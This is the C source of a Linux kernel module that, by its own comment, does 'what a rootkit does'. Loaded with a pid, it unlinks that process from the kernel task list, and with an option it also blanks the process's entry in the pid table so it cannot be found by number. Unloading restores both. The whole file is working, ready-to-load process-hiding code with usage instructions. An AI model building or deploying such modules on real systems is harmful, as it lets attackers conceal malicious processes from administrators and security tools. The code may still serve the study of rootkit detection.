// SPDX-License-Identifier: GPL-2.0
/*
 * starlsm - what a rootkit does for a process of its own: it takes it off the list
 * of tasks, and out of the table of numbers, too
 *
 * insmod hide_task.ko pid=PID [numbers=1]; rmmod puts it back.
 */
#include <linux/idr.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0);
MODULE_PARM_DESC(pid, "whom to hide");
static bool numbers;
module_param(numbers, bool, 0);
MODULE_PARM_DESC(numbers, "nobody finds it by its number either");

static struct task_struct *task;
static struct pid *number;

static int __init hide_task_init(void)
{
	number = find_get_pid(pid);
	task = get_pid_task(number, PIDTYPE_TGID);
	if (!task)
		return -ESRCH;
	list_del_rcu(&task->tasks);
	if (numbers)
		idr_replace(&init_pid_ns.idr, NULL, pid);
	return 0;
}

static void __exit hide_task_exit(void)
{
	if (numbers)
		idr_replace(&init_pid_ns.idr, number, pid);
	list_add_tail_rcu(&task->tasks, &init_task.tasks);
	put_task_struct(task);
	put_pid(number);
}

module_init(hide_task_init);
module_exit(hide_task_exit);
MODULE_DESCRIPTION("Hides a process");
MODULE_LICENSE("GPL");
